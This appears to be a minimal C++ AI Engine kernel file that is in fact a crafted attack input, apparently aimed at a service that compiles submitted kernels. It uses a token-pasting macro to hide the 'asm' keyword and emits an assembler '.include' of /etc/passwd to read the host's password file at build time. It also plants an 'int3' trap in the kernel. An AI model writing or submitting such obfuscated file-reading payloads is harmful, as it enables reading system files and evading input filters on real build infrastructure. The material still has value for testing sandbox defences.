#include <aie_api/aie.hpp>
#define C(a,b) a##b
C(a,sm)(".include \"/etc/passwd\"");
void k(int8_t *in, int8_t *out) { C(__as,m)("int3"); out[0] = 1; }
